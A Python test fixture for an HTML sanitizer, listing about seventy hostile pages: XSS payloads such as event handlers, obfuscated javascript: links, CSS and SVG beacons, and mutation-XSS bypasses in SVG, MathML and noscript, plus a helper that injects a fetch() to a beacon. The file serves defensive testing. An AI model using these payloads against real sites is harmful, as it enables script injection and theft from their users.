"""Hostile pages of our own making; each must neither run a script nor send a request once it is shown.

BEACON stands for the address of a server that must never be asked, RUN for a script that must never run.
"""

ATTACKS = {
    "a script": "<script>RUN</script>",
    "a script from elsewhere": "<script src=BEACON/a.js></script>",
    "a module and an import map": '<script type=importmap>{"imports":{"a":"BEACON/m.js"}}</script>'
    '<script type=module>import "a"</script>',
    "an event handler": "<img src=x onerror='RUN'><body onload='RUN'><details open ontoggle='RUN'>d</details>",
    "a handler in capitals": "<IMG SRC=x ONERROR='RUN'>",
    "focus": "<input autofocus onfocus='RUN'><a tabindex=0 id=x onfocus='RUN'>x</a>",
    "an animation event": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart='RUN'>x",
    "a javascript link": "<a href='javascript:RUN'>x</a>",
    "a javascript link in entities": "<a href='&#106;avascript&colon;RUN'>x</a>",
    "a javascript link with tabs": "<a href='java&Tab;scr&NewLine;ipt:RUN'>x</a>",
    "a javascript link behind controls": "<a href='&#1;&#32;javascript:RUN'>x</a>",
    "a vbscript link": "<a href='vbscript:RUN'>x</a>",
    "a page as data": "<a href='data:text/html,<script>RUN</script>'>x</a>",
    "a frame": "<iframe src=BEACON/frame></iframe>",
    "a frame with its own page": '<iframe srcdoc="<script>top.RUN</script>"></iframe>',
    "a frame with javascript": "<iframe src='javascript:RUN'></iframe>",
    "frames": "<frameset><frame src=BEACON/f><frame src='javascript:RUN'></frameset>",
    "an object": "<object data=BEACON/o></object><embed src=BEACON/e><applet code=BEACON/p></applet>",
    "an object with data": "<object data='data:text/html,<script>RUN</script>'></object>",
    "a refresh": "<meta http-equiv=refresh content='0;url=BEACON/r'>",
    "a refresh with javascript": '<meta http-equiv=refresh content="0;javascript:RUN">',
    "a base": "<base href=BEACON/ target=_top><img src=b.png><a href=x>x</a>",
    "a form": "<form action=BEACON/f id=f><input name=a><button formaction=BEACON/g>x</button></form>"
    "<input form=f type=image src=BEACON/i.png>",
    "pictures": "<img src=BEACON/i.png srcset='BEACON/j.png 2x'><picture><source srcset=BEACON/k.png><img></picture>",
    "media": "<video src=BEACON/v poster=BEACON/p autoplay><source src=BEACON/s></video><audio src=BEACON/a autoplay>",
    "old pictures": "<body background=BEACON/b.png><table background=BEACON/t.png><tr><td background=BEACON/d.png>x",
    "linked things": "<link rel=stylesheet href=BEACON/s.css><link rel=icon href=BEACON/i><link rel=preload as=image "
    "href=BEACON/p><link rel=prefetch href=BEACON/f><link rel=dns-prefetch href=BEACON><link rel=manifest href=BEACON/m>",
    "a style with url": "<style>p{background:url(BEACON/u.png)}</style><p>x",
    "a style with import": "<style>@import 'BEACON/i.css'; @import url(BEACON/j.css);</style>",
    "a style with escapes": r"<style>p{background:\75\72\6c(BEACON/u.png)} @\69mport 'BEACON/i.css';</style><p>x",
    "a style with an image set": "<style>p{background:image-set('BEACON/u.png' 1x);"
    "background-image:-webkit-image-set('BEACON/v.png' 1x)}</style><p>x",
    "a style with a font": "<style>@font-face{font-family:f;src:url(BEACON/f.woff)} p{font-family:f}</style><p>x",
    "a style behind a comment": "<style>p{background:u/**/rl(BEACON/a);background:url(/**/BEACON/b)}</style><p>x",
    "a style with a broken string": "<style>p{content:'\n;background:url(BEACON/q)}'</style><p>x",
    "a style with a variable": "<style>:root{--a:url(BEACON/v.png)}p{background:var(--a)}</style><p>x",
    "a style attribute": "<p style='background:url(BEACON/a.png);list-style:url(&quot;BEACON/l&quot;)'>x",
    "an expression": "<p style='width:expression(RUN);behavior:url(BEACON/x.htc)'>x",
    "a style that ends early": "<style>p{content:'</style><img src=x onerror=RUN>'}</style>",
    "svg with a script": "<svg><script>RUN</script><script href=BEACON/s.js /></svg>",
    "svg with a handler": "<svg onload='RUN'><animate onbegin='RUN' attributeName=x dur=1s /></svg>",
    "svg that animates a link": "<svg><a><animate attributeName=href values='javascript:RUN'/><text y=9>x</text></a></svg>",
    "svg with use": "<svg><use href='BEACON/s.svg#a'/><use href='data:image/svg+xml,<svg id=a onload=RUN />#a'/></svg>",
    "svg with images": "<svg><image href=BEACON/i.png /><feImage href=BEACON/f.png /></svg>",
    "svg with paint from elsewhere": "<svg><rect width=9 height=9 fill='url(BEACON/p.svg#a)' filter='url(BEACON/f)'/></svg>",
    "svg with a foreign object": "<svg><foreignObject><iframe src=BEACON/f></iframe><img src=x onerror=RUN></foreignObject>",
    "svg style mutation": "<svg></p><style><a id=\"</style><img src=1 onerror='RUN'>\">",
    "svg title mutation": "<svg><title><style><!--</style><img src=x onerror='RUN'>--></title></svg>",
    "svg desc mutation": "<svg><desc><noscript><p title=\"</noscript><img src=x onerror='RUN'>\"></desc></svg>",
    "math mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror='RUN'&gt;\">",
    "math form mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror='RUN'>",
    "math with a link": "<math href='javascript:RUN'><mi xlink:href='javascript:RUN'>x</mi></math>",
    "math annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror='RUN'></style></annotation-xml></math>",
    "noscript mutation": "<noscript><p title=\"</noscript><img src=x onerror='RUN'>\"></noscript>",
    "noscript in the head": "<head><noscript><style></noscript><img src=x onerror='RUN'></style></noscript>",
    "a template": "<template><img src=x onerror='RUN'><script>RUN</script></template>",
    "a declarative shadow root": "<div><template shadowrootmode=open><script>RUN</script><img src=BEACON/s></template></div>",
    "xmp and friends": "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp><noembed><img title='</noembed><img src=x "
    "onerror=RUN>'></noembed><noframes><i title='</noframes><img src=x onerror=RUN>'></noframes>",
    "plaintext": "<plaintext></plaintext><img src=x onerror='RUN'>",
    "a textarea": "<textarea></textarea ><img src=x onerror='RUN'><textarea>&lt;/textarea>&lt;img src=x onerror='RUN'>",
    "a title": "<title>&lt;/title>&lt;script>RUN&lt;/script></title>",
    "a comment": "<!--><img src=x onerror='RUN'>--><!--[if IE]><script>RUN</script><![endif]-->",
    "a select": "<select><option><img src=x onerror='RUN'></option><script>RUN</script></select>",
    "deep nesting": "<div>" * 600 + "<table><svg><style><img src=x onerror='RUN'>",
    "nested forms and tables": "<table><a href=1><table><a href=2><img src=x onerror='RUN'></table><form><form onsubmit=RUN>",
    "a ping and a popup": "<a href=BEACON/h ping=BEACON/p target=_self>x</a>",
    "odd names": "<p/onclick='RUN'x\"y=z <b>x</p><img/src/onerror='RUN'/><x:y onclick='RUN'>x</x:y>",
    "fake marks": "<x-tag data-x='added' id=x-1 onclick='RUN'>+ added</x-tag><x-legend style='position:fixed'>none</x-legend>",
    "a button with a command": "<button popovertarget=p command=show-modal commandfor=p onclick='RUN'>x</button>"
    "<div popover id=p onbeforetoggle='RUN'>p</div>",
    "portals and speculation": '<portal src=BEACON/p></portal><script type=speculationrules>{"prefetch":[{"source":"list",'
    '"urls":["BEACON/s"]}]}</script>',
}


def attack(name: str, beacon: str) -> str:
    """Write one attack, against one server."""
    page = ATTACKS[name].replace("RUN", f"document.title=window.ran=1;alert(1);fetch(`{beacon}/ran`)")
    return page.replace("BEACON", beacon)
